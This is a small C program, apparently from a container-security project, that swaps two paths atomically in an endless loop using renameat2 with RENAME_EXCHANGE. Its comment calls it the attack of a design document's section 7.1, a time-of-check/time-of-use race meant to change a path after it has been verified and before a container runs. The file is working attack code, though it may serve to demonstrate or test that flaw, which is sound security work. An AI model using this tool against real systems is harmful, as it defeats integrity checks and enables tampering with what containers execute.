/* hologram-swap A B [USEC]: swaps the paths A and B with
   renameat2(RENAME_EXCHANGE) in a loop until killed, sleeping USEC
   microseconds (default 0) between swaps.  The attack of HOLOGRAM.md 7.1:
   a check of a live path proves nothing if the path can change before
   the container runs.  Also works on two regular files (a file flipped
   between two contents).  */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int
main (int argc, char **argv)
{
  if (argc < 3)
    {
      fprintf (stderr, "usage: hologram-swap A B [USEC]\n");
      return 2;
    }
  useconds_t pause_us = argc > 3 ? (useconds_t) atoi (argv[3]) : 0;
  for (unsigned long n = 0;; n++)
    {
      if (syscall (SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0 && errno != EBUSY)
        {
          perror ("renameat2");
          return 1;
        }
      if (pause_us)
        usleep (pause_us);
    }
}
